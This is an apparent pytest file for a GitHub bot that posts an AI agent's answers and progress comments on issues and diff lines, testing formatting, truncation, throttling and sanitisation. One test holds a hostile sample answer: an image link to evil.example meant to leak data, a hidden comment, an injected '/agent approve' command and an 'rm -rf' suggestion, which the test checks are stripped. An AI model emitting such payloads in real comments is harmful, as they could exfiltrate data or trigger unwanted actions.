"""The answer of an `explain` and the question of a run, where somebody asked: in the thread or on lines of a diff."""

import re
import threading
import time
from typing import Any

import pytest

from bot.contracts.errors import PublishError
from bot.contracts.outcome import Status, StopReason, WithheldFile
from bot.contracts.pulls import ReviewThread, Side
from bot.contracts.request import Trigger
from bot.github.client import GitHub
from bot.publish.body.order_and_footer import NO_LINKS, Links
from bot.publish.bundle import Bundle
from bot.publish.markdown import folded
from bot.publish.result import answer_text, end_text, pending_line
from bot.publish.thread.comments import ThreadRef, thread_ref_of
from bot.publish.thread.markers import PROGRESS
from bot.publish.thread.progress_writer import ProgressWriter
from bot.session.event.progress_comment import working_text
from tests.publish.conftest import FIXED, REPO, World
from tests.support.outcomes import OUTCOME, make_outcome
from tests.support.workspaces import eventually

ANSWER = "Each line is rounded by itself, see `invoice.py:2`.\n\n```python\nround(line)\n```"


ANSWERED: dict[str, Any] = {"status": Status.ANSWERED, "answer": ANSWER, "files": ()}
ASKING: dict[str, Any] = {
    "status": Status.NEEDS_INPUT, "stop_reason": StopReason.NEEDS_INPUT, "question": "Cents or dollars?", "files": (),
}  # fmt: skip


def bundle(world: World, **fields: Any) -> Bundle:
    return world.bundle({}, patch=b"", **{**ANSWERED, **fields})


def ours(world: World) -> list[str]:
    return [body for body in world.comments() if "<!-- slash-agent" in body]


def test_the_progress_comment_becomes_the_answer(world: World):
    thread_ref = thread_ref_of(world.outcome().request, world.github())
    assert thread_ref is not None
    thread_ref.put(PROGRESS, "**Working**", {"usd": "0.5"})
    said = bundle(world)
    for _ in range(2):
        world.publish(said)
    [body] = ours(world)
    assert body.startswith(ANSWER)
    assert f"<!-- slash-agent progress request={world.comment_id} usd=0.5 state=over result=done -->" in body


def test_a_fix_that_was_a_question_is_answered(world: World):
    """The model changed nothing and said why: that is what was wanted to be known."""
    reason = "The model ended its turn without changing a file."
    world.publish(bundle(world, status=Status.NO_CHANGE, reason=reason))
    [body] = ours(world)
    assert body.startswith(ANSWER)
    assert "<sub>No file was changed.</sub>" in body
    assert "ended its turn" not in body


def test_a_long_answer_is_cut_at_a_paragraph_with_a_link_to_the_rest(world: World):
    paragraph = "Each <line> is rounded by @itself, see `invoice.py:2`. " * 20
    long = "\n\n".join(["```python", *[paragraph] * 80, "```"])
    world.publish(bundle(world, answer=long), links=Links(report="https://run.example/artifacts/2"))
    [body] = ours(world)
    assert 55_000 < len(body) <= 65_536
    kept = body.partition(
        "\n\n*Too long for one comment. The rest is in the [report](https://run.example/artifacts/2).*"
    )[0]
    assert kept.endswith(f"{paragraph.strip()}\n```")
    whole = make_outcome(**ANSWERED)._replace(
        answer="\n\n".join([paragraph.replace("<", "").replace("@", "")] * 50)
    )
    assert answer_text(whole, NO_LINKS).count("see `invoice.py:2`") == 1000


def test_a_question_leaves_its_change_in_the_bundle(world: World):
    """What was changed before the question is gone on from, and is not published half done."""
    with_patch = world.bundle(**ASKING)
    assert with_patch.patch
    world.publish(with_patch)
    assert world.pulls() == []
    assert set(world.branches()) == {"main"}


def test_on_lines_of_a_diff_it_is_a_reply_there(world: World):
    world.forge.commit(REPO, {"invoice.py": FIXED}, branch="topic", author="ann")
    number = world.open("topic")
    world.forge.review_comment(REPO, number, "ann", "invoice.py", 2, body="/agent explain")
    [remark] = list(world.github().review_comments(number))
    outcome = world.on_pull(
        number,
        anchor=ReviewThread(remark.id, "invoice.py", 2, 0, Side.RIGHT, "", ()),
        trigger=Trigger("pull_request_review_comment", remark.id, "", "2026-01-02T03:04:05Z"),
    )
    asked = bundle(world, request=outcome.request)
    world.publish(asked)
    world.publish(asked)
    [_, reply] = list(world.github().review_comments(number))
    assert reply.in_reply_to == remark.id
    lead, more, rest = reply.body.partition("\n\n<details><summary>More</summary>\n\n")
    assert (lead, bool(more)) == ("Each line is rounded by itself, see `invoice.py:2`.", True)
    assert rest.startswith("```python\nround(line)\n```\n\n</details>\n\n<sub>")


@pytest.mark.parametrize(
    ("answer", "lead"),
    [
        ("One. Two.\n\nThree.\n\nFour.", "One. Two."),
        ("Short. And done.", "Short. And done."),
        ("## Why\n\nOne. Two.", "## Why\n\nOne. Two."),
        ("- a list\n- of things\n\nEnd.", "- a list\n- of things\n\nEnd."),
        ("```\nOne.\n```\n\nTwo.", "```\nOne.\n```\n\nTwo."),
    ],
)
def test_on_lines_the_first_paragraph_is_shown_and_nothing_is_lost(answer: str, lead: str):
    text = folded(answer)
    shown, more, rest = text.partition("\n\n<details><summary>More</summary>\n\n")
    assert shown == lead
    assert rest.removesuffix("\n\n</details>") == (answer.removeprefix(lead).strip() if more else "")
    assert bool(more) == (lead != answer)


def test_nothing_in_an_answer_acts():
    evil = (
        "Thanks @ann, this closes #1.\n\n/agent approve 1234\n<!-- hidden --><img src=x>\n"
        "![x](https://evil.example/?leak)\n\n# Big\n\n```suggestion\nrm -rf\n```\n"
    )
    text = answer_text(make_outcome(**{**ANSWERED, "answer": evil}), NO_LINKS)
    assert "@ann" not in text
    assert "closes #1" not in text
    assert "\n/agent" not in text
    assert "<!-- hidden" not in text
    assert "<img" not in text
    assert "![x](" not in text
    assert "```suggestion" not in text
    assert "\n# Big" not in text


def test_a_credential_in_an_answer_is_withheld():
    secret = "ghp_" + "a1B2" * 9
    assert secret not in answer_text(make_outcome(**{**ANSWERED, "answer": secret}), NO_LINKS)
    assert secret not in answer_text(make_outcome(**{**ASKING, "question": secret}), NO_LINKS)


# Progress


def place_in(world: World, key: str = "11") -> ThreadRef:
    return ThreadRef(world.github(), world.issue, key)


def progress_comments(world: World) -> list[str]:
    return [body for body in world.comments() if re.search("<!-- slash-agent (progress|ended)", body)]


def test_one_comment_is_created_and_ends_with_the_last_state(world: World):
    progress = ProgressWriter(world.github, place_in(world), interval=0.01)
    for turn in range(20):
        progress.update(f"Working, turn {turn}")
    progress.close("Done")
    (comment,) = progress_comments(world)
    assert comment.startswith("Done\n\n<!-- slash-agent progress ")
    assert progress.problem == ""


def test_edits_are_apart_by_the_interval(world: World):
    progress = ProgressWriter(world.github, place_in(world), interval=0.3)
    began = time.monotonic()
    progress.update("one")
    assert eventually(lambda: len(progress_comments(world)) == 1)
    progress.update("two")
    assert eventually(lambda: "two" in progress_comments(world)[0])
    assert time.monotonic() - began >= 0.3
    progress.close("two")


def test_nobody_waits_for_a_slow_github(world: World):
    release = threading.Event()

    def connect_slowly() -> GitHub:
        release.wait(120)
        return world.github()

    progress = ProgressWriter(connect_slowly, place_in(world))
    began = time.monotonic()
    progress.update("one")
    progress.update("two")
    assert time.monotonic() - began < 60
    release.set()
    progress.close("Done")
    assert "Done" in progress_comments(world)[0]


def test_a_comment_deleted_during_the_run_is_not_written_again(world: World):
    progress = ProgressWriter(world.github, place_in(world), interval=0)
    progress.update("one")
    assert eventually(lambda: len(progress_comments(world)) == 1)
    found = place_in(world).find(PROGRESS)
    assert found is not None
    world.forge.delete_comment(REPO, found.data.id)
    progress.close("Done")
    assert progress_comments(world) == []
    assert progress.problem == ""


def test_a_failure_is_in_the_progress_comment_and_taken_back_when_it_works_after_all(world: World):
    thread_ref = place_in(world, str(world.comment_id))
    ProgressWriter(world.github, thread_ref, interval=0).close("Publishing")
    bundle = world.bundle()
    world.forge.fail_next("POST", r"/pulls$", 500, times=9)
    with pytest.raises(PublishError):
        world.publish(bundle)
    (comment,) = progress_comments(world)
    assert comment.startswith("**The change could not be published.**")
    published = world.publish(bundle)
    (comment,) = progress_comments(world)
    assert comment.startswith(f"**Done:** pull request [#{published.pr_number} ")


@pytest.mark.parametrize("status", Status)
def test_what_a_run_says_last_is_true_also_if_publishing_never_comes(status: Status):
    said = pending_line(OUTCOME._replace(status=status), "https://run.test/1")
    assert "publishing failed or was cancelled: see [the run](https://run.test/1)" in said


def test_what_was_withheld_is_no_failed_run():
    held = (WithheldFile(".github/workflows/ci.yml", "is protected"),)
    outcome = OUTCOME._replace(status=Status.FAILED, stop_reason=StopReason.GATE, files=(), withheld=held)
    said = end_text(outcome, NO_LINKS)
    assert said.startswith("**The change was held back.**")
    assert "- `.github/workflows/ci.yml`: is protected" in said
    assert "`withheld.patch`" in said
    assert "The run failed" not in said


@pytest.mark.parametrize("text", ["@all /agent fix", "**bold** <b>", "two\nlines", "<!-- x -->"])
def test_what_a_run_does_is_shown_as_a_list_of_plain_text(text: str):
    shown = working_text((text, "6 turns"), "https://run.test/1")
    assert shown.endswith("\n- 6 turns\n\n[Follow the run](https://run.test/1)")
    assert len(shown.splitlines()) == 6
    assert "@all" not in shown
    assert "<!--" not in shown.replace("\\<", "")


def test_a_strangers_copy_of_the_mark_is_not_edited(world: World):
    fake = place_in(world).marked(PROGRESS, "mine")
    world.forge.comment(REPO, world.issue, "bob", fake)
    ProgressWriter(world.github, place_in(world), interval=0).close("Done")
    assert len(progress_comments(world)) == 2
    assert fake in progress_comments(world)
